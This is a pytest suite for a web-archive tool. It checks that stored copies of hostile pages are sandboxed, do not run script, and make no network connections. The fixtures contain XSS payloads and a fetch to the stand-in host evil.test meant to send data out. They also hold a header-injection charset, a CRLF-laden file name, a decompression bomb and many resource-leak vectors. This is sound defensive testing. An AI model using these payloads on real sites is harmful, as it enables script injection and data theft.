"""Archived copies of hostile pages, over HTTP and in a browser."""

import gzip
import select
import socket
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote

import pytest
from msgspec.structs import replace
from playwright.sync_api import Browser
from tests.support.browser import chromium
from tests.support.serving import HttpAnswer, get, serve
from tests.support.towns import visit, written

from toponaut.archive import ArchiveWriter
from toponaut.records import Outcome, Response, Visit

EVIL = "http://evil.test"
SCRIPT = """<html><head><title></title><script>fetch('http://evil.test/stolen')</script></head>
<body onload="alert(1)">
<p>Pizza <img src=x onerror=alert(2)> <a href="javascript:alert(3)">here</a></p>
<form action="http://evil.test/"><input name=q></form><iframe src="http://evil.test/"></iframe>
</body></html>"""
TITLE = "</title><script>alert(1)</script><img src=x onerror=alert(2)>\0\u202e"


class HostilePage(NamedTuple):
    """A hostile page, as received: body and headers."""

    path: str
    body: bytes
    content_type: str
    encoding: str = ""
    outcome: Outcome = Outcome.FETCHED


HOSTILE_PAGES = (
    HostilePage("/script", SCRIPT.encode(), "text/html"),
    HostilePage("/charset", SCRIPT.encode(), 'text/html; charset="><script>alert(1)</script>'),
    HostilePage("/utf7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza",
        "text/html; charset=utf-7"),
    HostilePage("/utf16", f"\ufeff{SCRIPT}".encode("utf-16-le"), "text/html"),
    HostilePage("/latin", "<p>Straße in Köln, pizza".encode("latin-1"), "text/html; charset=utf-8"),
    HostilePage("/nul", b"<p>pi\0zza\0 \xff\xfe\x00\x80</p>", "text/html"),
    HostilePage("/links",
        b"<link rel=preconnect href=//evil.test><IFRAME/rel=preconnect href=//evil.test> <links> "
        b"&lt;link <frames>", "text/html"),
    HostilePage("/xhtml",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
            "application/xhtml+xml"),
    HostilePage("/refresh",
        b"<META\nhttp-equiv=refresh content='0;url=//evil.test'><meta name=referrer "
        b"content=unsafe-url>pizza", "text/html"),
    HostilePage("/xslt.xml", b"<?xml-stylesheet type='text/xsl' href='#x'?><x/>", "text/xml"),
    HostilePage("/parts",
        b"--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--",
            "multipart/x-mixed-replace; boundary=x"),
    HostilePage("/svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/svg+xml"),
    HostilePage("/script.js", b"alert(1)", "text/javascript"),
    HostilePage("/none", b"<script>alert(1)</script>", ""),
    HostilePage("/plain", b"<script>alert(1)</script>", "text/plain"),
    HostilePage('/na"me;\r\n.pdf', b"%PDF-1.4 <script>alert(1)</script>", "application/pdf"),
    HostilePage("/packed", gzip.compress(SCRIPT.encode()), "text/html", "gzip"),
    HostilePage("/bomb", zlib.compress(b"\0" * 100_000_000), "text/html", "deflate"),
    HostilePage("/broken", gzip.compress(SCRIPT.encode())[:40], "text/html", "gzip"),
    HostilePage("/noindex", SCRIPT.encode(), "text/html", outcome=Outcome.NO_INDEX),
)  # fmt: skip


def url_of(page: HostilePage) -> str:
    return EVIL + quote(page.path)


def crawled(root: Path, pages: tuple[HostilePage, ...]) -> Path:
    """A crawl with these pages in its log and its archive."""
    log: list[Visit] = []
    with ArchiveWriter(
        root / "archive", "main", max_bytes=10**9, info={"software": "test"}
    ) as archive:
        for number, one in enumerate(pages):
            packed = f"Content-Encoding: {one.encoding}\r\n" if one.encoding else ""
            head = (
                f"HTTP/1.1 200 OK\r\nContent-Type: {one.content_type}\r\n{packed}"
                f"Refresh: 0;url={EVIL}\r\nLink: <{EVIL}>; rel=preload\r\n\r\n"
            )
            fetched = Response(
                url_of(one), 200, one.body, one.content_type, started=1.8e9,
                response_head=head.encode(), payload=one.body
            )  # fmt: skip
            stored = archive.write(fetched, {})
            assert stored
            page = visit(number, url_of(one), f"Pizza {TITLE}", one.outcome, title=TITLE)
            where = {"archive": stored.file, "offset": stored.offset, "length": stored.length}
            log.append(replace(page, content_type=one.content_type, **where))
    return written(root, log)


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("evil") / "crawl"
    folder.mkdir()
    with serve(crawled(folder, HOSTILE_PAGES)) as url:
        yield url


def archived(base: str, path: str) -> HttpAnswer:
    return get(base, f"/archived?url={quote(EVIL + quote(path), safe='')}")


# --- over HTTP ------------------------------------------------------------------------------------


def test_a_copy_is_sandboxed(base: str) -> None:
    answer = archived(base, "/script")
    assert (answer.status, answer.body.decode()) == (200, SCRIPT.replace("<iframe", "<basefont"))
    rules = [rule.strip() for rule in answer.headers["content-security-policy"].split(";")]
    assert {
        "sandbox",
        "default-src 'none'",
        "img-src data:",
        "form-action 'none'",
        "base-uri 'none'",
    } <= set(rules)
    assert not any(rule.startswith(("script-src", "connect-src", "frame-src")) for rule in rules)
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"


def test_the_page_s_headers_are_not_sent(base: str) -> None:
    assert (
        not {"refresh", "link", "set-cookie", "location"} & archived(base, "/script").headers.keys()
    )


@pytest.mark.parametrize(
    ("path", "media"),
    [
        ("/script", "text/html; charset=utf-8"),
        ("/charset", "text/html; charset=utf-8"),
        ("/utf7", "text/html; charset=utf-8"),
        ("/xhtml", "text/html; charset=utf-8"),
        ("/plain", "text/plain; charset=utf-8"),
        ("/packed", "text/html; charset=utf-8"),
        ("/svg", "application/octet-stream"),
        ("/xslt.xml", "application/octet-stream"),
        ("/parts", "application/octet-stream"),
        ("/script.js", "application/octet-stream"),
        ("/none", "application/octet-stream"),
        ('/na"me;\r\n.pdf', "application/octet-stream"),
    ],
    ids=repr,
)
def test_the_content_type_of_a_copy(base: str, path: str, media: str) -> None:
    answer = archived(base, path)
    assert (answer.status, answer.headers["content-type"]) == (200, media)
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("sandbox;")
    kept = answer.headers.get("content-disposition", "")
    assert kept.startswith("attachment;") == (media == "application/octet-stream")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/utf16", SCRIPT.replace("<iframe", "<basefont")),
        ("/utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4- pizza"),
        (
            "/refresh",
            "<basefont\nhttp-equiv=refresh content='0;url=//evil.test'><basefont name=referrer "
            "content=unsafe-url>pizza",
        ),
        ("/latin", "<p>Straße in Köln, pizza"),
        ("/nul", "<p>pi\0zza\0 яю\0Ђ</p>"),
        (
            "/links",
            "<basefont rel=preconnect href=//evil.test><basefont/rel=preconnect href=//evil.test> "
            "<links> &lt;link <frames>",
        ),
    ],
)
def test_a_copy_has_the_decoded_characters(base: str, path: str, text: str) -> None:
    assert archived(base, path).body.decode() == text


def test_file_names_are_escaped(base: str) -> None:
    kept = archived(base, '/na"me;\r\n.pdf').headers["content-disposition"]
    assert kept == 'attachment; filename="na-22me-3B-0D-0A.pdf"'


@pytest.mark.parametrize("path", ["/bomb", "/broken", "/noindex"])
def test_a_copy_that_is_not_shown(base: str, path: str) -> None:
    """A decompression bomb of 100 MB, half a file, and a noindex page."""
    answer = archived(base, path)
    assert answer.status == 404
    assert set(answer.json) == {"error", "fix"}


def test_markup_in_titles_and_texts_is_text(base: str) -> None:
    """It is sent as JSON, which no browser shows as a page."""
    for path in (
        "/api/search?q=pizza",
        "/api/search.geojson?q=pizza",
        f"/api/page?url={EVIL}/script",
    ):
        answer = get(base, path)
        assert answer.status == 200
        assert answer.headers["content-type"] in ("application/json", "application/geo+json")
    hit = get(base, "/api/search?q=pizza").json["hits"][0]
    assert hit["title"].startswith("</title><script>alert(1)</script>")
    page = get(base, f"/api/page?url={EVIL}/script").json
    assert page["title"] == TITLE
    assert page["text"] == f"Pizza {TITLE}"


def test_errors_contain_no_markup(base: str) -> None:
    answer = get(base, f"/api/search?limit={quote('<script>alert(1)</script>')}")
    assert (answer.status, answer.headers["content-type"]) == (400, "application/json")
    assert get(base, f"/api/page?url={quote('javascript:alert(1)')}").status == 400
    assert get(base, f"/archived?url={quote('javascript:alert(1)')}").status == 404


# --- in a browser ---------------------------------------------------------------------------------

LEAKS = """<html><head><title>still</title><meta http-equiv="refresh" content="0;url=X/refresh">
<base href="X/base/">
<link rel=preconnect href="X"><link rel="dns-prefetch" href="X">
<link rel=prefetch href="X/prefetch"><link rel=preload as=image href="X/p">
<link rel=stylesheet href="X/css"><link rel=icon href="X/icon">
<link rel=modulepreload href="X/module"><link rel=manifest href="X/m">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["X/speculation"]}]}</script>
<style>@import url(X/import); body {background: url(X/picture)} @font-face {font-family: f; src:
  url(X/font)} p {font-family: f}</style>
<script>document.title = "ran"; fetch("X/fetch")</script></head>
<body onload="document.title = 'ran'">
<p id=text>Pizza</p><img src="X/image" onerror="document.title = 'ran'"><iframe src="X/frame">
</iframe><object data="X/object"></object>
<embed src="X/embed"><input type=image src="X/input"><picture><source srcset="X/set"></picture>
<audio src="X/audio"><track src="X/track"></audio>
<table background="X/table"></table>
<p style="background: url(X/style); cursor: url(X/cursor), auto">x</p>
<video src="X/video" poster="X/poster" autoplay></video><svg><image href="X/svg"/>
<use href="X/use#a"/></svg>
<iframe srcdoc="<script>top.document.title = 'ran'</script>"></iframe></body></html>"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as opened:
        yield opened


@pytest.mark.parametrize("framed", [False, True], ids=["in a tab", "in a frame"])
def test_a_copy_in_a_browser_does_nothing(tmp_path: Path, browser: Browser, framed: bool) -> None:
    """Nothing of it runs, and it makes no connection."""
    folder = tmp_path / "crawl"
    folder.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        their_url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        crawled(
            folder, (HostilePage("/leaks", LEAKS.replace("X", their_url).encode(), "text/html"),)
        )
        with serve(folder) as base:
            page = browser.new_page()
            page.goto(f"{base}/" if framed else f"{base}/archived?url={EVIL}/leaks")
            if framed:
                show = (
                    "url => { const f = document.createElement('iframe'); "
                    "f.setAttribute('sandbox', ''); f.src = url; document.body.append(f) }"
                )
                page.evaluate(show, f"/archived?url={EVIL}/leaks")
            shown = page.frame_locator("iframe[src^='/archived']") if framed else page
            assert shown.locator("#text").inner_text() == "Pizza"
            page.wait_for_timeout(1500)
            assert framed or page.title() == "still"
            assert "ran" not in page.title()
            page.close()
        assert select.select([listener], [], [], 0) == ([], [], [])  # no connection
